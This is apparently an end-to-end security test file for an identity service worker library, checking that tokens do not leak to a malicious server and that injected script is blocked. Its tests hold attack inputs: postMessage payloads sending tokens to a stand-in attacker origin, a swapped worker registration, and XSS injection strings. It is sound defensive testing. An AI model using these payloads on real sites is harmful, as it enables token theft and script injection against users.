/** Attempts to change what is signed, and scripts beside the worker: foreign, injected, or the ready worker with other attributes. */
import { readFileSync } from 'node:fs';
import { expect, registeredWith, signedIn, test, TestApp } from '../support/attack.js';
import { aCount, countQuery } from '../support/services.js';
import { anyOrigin } from '../support/malicious-server.js';

test(
  'a page’s message cannot make another server the portal’s own',
  { tag: ['@S6'] },
  async ({ app, vulnerableApp, maliciousServer, portal }) => {
    const evil = await maliciousServer({
      answer: (_, response) => {
        response.writeHead(200, { ...anyOrigin, 'content-type': 'application/json' }).end('{}');
        return true;
      },
    });
    const attack = async (target: TestApp): Promise<void> => {
      await target.run(async (origin) => {
        const worker = navigator.serviceWorker.controller;
        for (const message of [
          { configuration: { resources: [origin] } },
          { type: 'identity:configure', version: 1, portals: [{ url: origin }], resources: [origin] },
          { type: 'identity:register', version: 1, portal: origin },
          { type: 'CACHE_URLS', payload: { urlsToCache: [`${origin}/cached`] } },
        ])
          worker?.postMessage(message);
        // Answered after the messages before it.
        const { port1, port2 } = new MessageChannel();
        worker?.postMessage({ type: 'identity:connect', version: 1 }, [port2]);
        worker?.postMessage('marker', [new MessageChannel().port2]);
        port1.close();
        await fetch('/signed-in.html');
      }, evil.origin);
      await target.fetch(`${evil.origin}/leaked?f=json`);
      await target.loadImage(`${evil.origin}/rest/services/x/MapServer/tile/0/0/0`);
    };
    await attack(await vulnerableApp({ does: 'configurable' }));
    expect(evil.secrets(), 'control').not.toEqual([]);
    const before = evil.received.length;
    await signedIn(app);
    await attack(app);
    const since = evil.received
      .slice(before)
      .map(({ url, headers, body }) => `${url.href} ${JSON.stringify(headers)} ${body}`);
    expect(since.length).toBeGreaterThan(0);
    expect(portal.log.leaks(since.join('\n'))).toEqual([]);
  },
);

test(
  'the ready worker cannot be registered with other attributes where the server names its workers',
  { tag: ['@S6'] },
  async ({ variant, maliciousServer, portal }) => {
    const evil = await maliciousServer({
      answer: (_, response) => {
        response.writeHead(200, { ...anyOrigin, 'content-type': 'application/json' }).end('{}');
        return true;
      },
    });
    /** @returns Whether the other worker was let in. */
    const attack = async (target: TestApp): Promise<boolean> => {
      const attributes = new URLSearchParams({
        portal: portal.url,
        'client-id': 'idw-demo',
        'redirect-uri': '/signed-in.html',
        resources: evil.origin,
      });
      await target.run(async () => {
        for (const registration of await navigator.serviceWorker.getRegistrations())
          await registration.unregister();
      });
      const worker = encodeURIComponent(`/identity-worker.js?${attributes.toString()}`);
      await target.page.goto(`${target.url}/?worker=${worker}`);
      const isIn = await target.run(() =>
        window.identity.ready.then(
          () => true,
          () => false,
        ),
      );
      await target.fetch(`${evil.origin}/leaked?f=json`);
      return isIn;
    };
    const lenient = await signedIn(await variant({}));
    expect(await attack(lenient)).toBe(true);
    // It does not get the tokens that the app's own worker had.
    expect(evil.secrets()).toEqual([]);
    // Control: it gets those of the next sign-in.
    await lenient.signIn('ana');
    await lenient.fetch(`${evil.origin}/leaked?f=json`);
    expect(evil.secrets()).not.toEqual([]);
    const ours = await signedIn(await variant({ options: { persistence: 'sealed' }, isSealed: true }));
    expect(await attack(ours)).toBe(false);
    await ours.open();
    expect(await ours.fetchJson(ours.hosted(countQuery()))).toEqual(aCount);
  },
);

test(
  'a registration that owns more does not get the old tokens',
  { tag: ['@S6'] },
  async ({ variant, maliciousServer, portal }) => {
    const evil = await maliciousServer({
      answer: (_, response) => {
        response.writeHead(200, { ...anyOrigin, 'content-type': 'application/json' }).end('{}');
        return true;
      },
    });
    // The app's server has the same worker with another registration from some moment on.
    const worker = readFileSync('dist/e2e/worker.js', 'utf8');
    const wider = registeredWith({ resources: [portal.hostedUrl, evil.origin] }).make(portal);
    const body = worker.replace('__IDENTITY_CONFIG__', () =>
      JSON.stringify(JSON.stringify(wider)).slice(1, -1),
    );
    let isChanged = false;
    const ours = await signedIn(
      await variant({
        intercept: (path) =>
          isChanged && path === '/worker.js'
            ? { headers: { 'content-type': 'text/javascript' }, body }
            : undefined,
      }),
    );
    isChanged = true;
    await ours.run(async () => {
      for (const registration of await navigator.serviceWorker.getRegistrations())
        await registration.unregister();
    });
    await ours.open();
    await ours.handleChallengesInApp();
    await ours.fetch(`${evil.origin}/leaked?f=json`);
    expect(await ours.run(() => window.identity.credentials)).toEqual([]);
    expect(evil.secrets()).toEqual([]);
    // Control: with a sign-in of its own the new registration does own that server.
    portal.control.endSessions();
    await ours.page.reload();
    await ours.ready();
    await ours.signIn('ana');
    await ours.fetch(`${evil.origin}/leaked?f=json`);
    expect(evil.secrets()).not.toEqual([]);
  },
);

const policy = [
  "default-src 'none'",
  "script-src 'self'",
  "worker-src 'self'",
  'connect-src *',
  'img-src * data:',
  "require-trusted-types-for 'script'",
  'trusted-types identity-worker',
].join('; ');

/** Injects script as a hole in an app would let an attacker. @returns What ran. */
const inject = (target: TestApp): Promise<string> =>
  target.run(async () => {
    const ran: string[] = [];
    Object.assign(window, { ran: (how: string) => ran.push(how) });
    const attempts: (() => unknown)[] = [
      () => {
        const script = document.createElement('script');
        script.textContent = 'ran("element")';
        document.body.append(script);
      },
      () => document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="ran(\'handler\')">'),
      // oxlint-disable-next-line no-implied-eval -- the attack
      () => setTimeout('ran("timer")'),
      () => {
        const frame = document.createElement('iframe');
        frame.srcdoc = '<script>parent.ran("frame")</script>';
        document.body.append(frame);
      },
    ];
    for (const attempt of attempts) {
      try {
        attempt();
      } catch {
        // The policy said no.
      }
    }
    // What was let in has run when it has loaded, and timers run in their order.
    const loading = document.querySelectorAll('img, iframe');
    await Promise.all(
      [...loading].map(
        (element) =>
          new Promise((resolve) => {
            for (const type of ['load', 'error']) element.addEventListener(type, resolve);
          }),
      ),
    );
    await new Promise((resolve) => setTimeout(resolve));
    return ran.sort().join();
  });

test(
  'injected script does not run under the strictest policy, under which everything of the library works',
  { tag: ['@A9', '@I5', '@S12'] },
  async ({ app, variant }) => {
    await app.open();
    expect(await inject(app), 'control').toBe('element,frame,handler,timer');
    const ours = await signedIn(
      await variant({
        options: { callback: 'worker', persistence: 'sealed' },
        isSealed: true,
        headers: { 'content-security-policy': policy },
      }),
    );
    expect(await inject(ours)).toBe('');
    expect(await ours.fetchJson(ours.hosted(countQuery()))).toEqual(aCount);
  },
);

test(
  'a page of another origin that holds the app’s window cannot sendMessages to its worker',
  { tag: ['@S8', '@user-interface'] },
  async ({ app, vulnerableApp, portal }) => {
    /** Opens the app from a foreign page and says to its window whatever a page could say to the worker. */
    const attack = async (target: TestApp): Promise<string> => {
      const foreign = await target.page.context().newPage();
      await foreign.goto(`${portal.foreign.origin}/`);
      const [opened] = await Promise.all([
        foreign.waitForEvent('popup'),
        foreign.evaluate(async (url) => {
          const frame = document.createElement('iframe');
          frame.src = url;
          const loaded = new Promise((resolve) => frame.addEventListener('load', resolve));
          document.body.append(frame);
          Reflect.set(window, 'held', [frame.contentWindow, window.open(url)]);
          await loaded;
        }, `${target.url}/`),
      ]);
      const itsApp = new TestApp(opened, portal, target.url);
      await itsApp.ready();
      await foreign.evaluate(() => {
        const received: string[] = [];
        Reflect.set(window, 'received', received);
        addEventListener('message', ({ data }) => received.push(JSON.stringify(data)));
        for (const held of Reflect.get(window, 'held') as Window[])
          for (const message of [
            'token',
            { type: 'identity:connect', version: 1 },
            { type: 'identity:claim', version: 1 },
          ]) {
            const { port1, port2 } = new MessageChannel();
            port1.addEventListener('message', ({ data }) => received.push(JSON.stringify(data)));
            port1.start();
            held.postMessage(message, '*', [port2]);
            port1.postMessage({ id: 'attack', type: 'APPLY', path: ['state'], argumentList: [] });
          }
      });
      // The worker answers calls of the page after what came before them.
      for (let turn = 0; turn < 3; turn += 1) await itsApp.run(() => window.identity.inspectClients());
      return foreign.evaluate(() => (Reflect.get(window, 'received') as string[]).join('\n'));
    };
    await signedIn(app);
    expect(portal.log.leaks(await attack(app))).toEqual([]);
    // Control: the same words, said by a page of the app itself, are heard by a worker that tells.
    const vulnerable = await vulnerableApp({ does: 'tells' });
    const told = await vulnerable.run(
      () =>
        new Promise<string>((resolve) => {
          const { port1, port2 } = new MessageChannel();
          port1.addEventListener('message', ({ data }) => resolve(String(data)));
          port1.start();
          navigator.serviceWorker.controller?.postMessage('token', [port2]);
        }),
    );
    expect(portal.log.leaks(told)).not.toEqual([]);
  },
);
